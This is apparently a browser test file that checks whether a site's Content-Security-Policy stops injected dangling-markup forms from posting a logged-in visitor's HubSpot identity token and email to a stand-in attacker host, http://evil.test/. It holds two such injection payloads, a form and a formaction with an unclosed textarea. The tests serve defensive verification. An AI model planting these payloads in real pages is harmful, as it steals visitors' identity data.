"""Markup above the tag that swallows the rest of the page, and sends it to another site at the visitor's click."""

from __future__ import annotations

from importlib import import_module
from pathlib import Path
from typing import Any
from urllib.parse import unquote_plus

import pytest

from browser.conftest import Visit
from browser.site import Site

pytestmark = pytest.mark.browser

EXAMPLE = Path(__file__).parents[2] / "example_project"
PLANTED = {
    "form": '<form action="http://evil.test/" method="post"><button>Win a prize</button><textarea name="rest">',
    "formaction": '<form method="post"><button formaction="http://evil.test/">Win a prize</button><textarea name="r">',
}


@pytest.fixture
def policy(monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    """The header of the example project's policy."""
    monkeypatch.syspath_prepend(EXAMPLE)
    directives = import_module("example_site.settings").SECURE_CSP
    text = "; ".join(" ".join([name, *sources]) for name, sources in directives.items())
    return {"Content-Security-Policy": text}


@pytest.fixture
def stolen(visit: Visit) -> list[str]:
    """What arrives at the other site."""
    stolen: list[str] = []
    visit.page.route(
        "http://evil.test/**",
        lambda route: (stolen.append(unquote_plus(route.request.post_data or "")), route.fulfill(body="Thank you.")),
    )
    return stolen


def click_planted_button(visit: Visit, site: Site, content: str, **options: Any) -> None:
    """Let a user who is logged in click on the button that is planted in a page."""
    site.page("/", content, **options)
    visit.log_in("ada")
    visit.page.get_by_role("button", name="Win a prize").click(no_wait_after=True)  # there may be no navigation


@pytest.mark.parametrize("planted", PLANTED)
def test_policy_keeps_a_planted_form_from_sending_the_identity(
    visit: Visit, site: Site, policy: dict[str, str], stolen: list[str], planted: str
) -> None:
    """With the example's policy, the click sends nothing to the other site."""
    click_planted_button(visit, site, PLANTED[planted] + '{% hubspot_identify account="inline" %}', headers=policy)
    visit.page.wait_for_function("violations.length")
    assert [each.split()[0] for each in visit.run("violations")] == ["form-action"]
    assert stolen == []


@pytest.mark.parametrize("planted", PLANTED)
def test_without_the_policy_a_planted_form_sends_the_identity(
    visit: Visit, site: Site, stolen: list[str], planted: str
) -> None:
    """What the test above is measured by: one click sends the token."""
    click_planted_button(visit, site, PLANTED[planted] + '{% hubspot_identify account="inline" %}')
    visit.page.wait_for_url("http://evil.test/")
    (sent,) = stolen
    assert "data-identity" in sent
    assert "ada@example.com" in sent


@pytest.mark.parametrize("planted", PLANTED)
def test_deferred_page_has_no_identity_to_send(visit: Visit, site: Site, stolen: list[str], planted: str) -> None:
    """Also without a policy, the rest of a deferred page contains nothing about the visitor."""
    click_planted_button(visit, site, PLANTED[planted] + "{% hubspot_identify %}")
    visit.page.wait_for_url("http://evil.test/")
    (sent,) = stolen
    assert "data-endpoint" in sent
    assert not [name for name in ("data-identity", "data-subject", "ada") if name in sent]
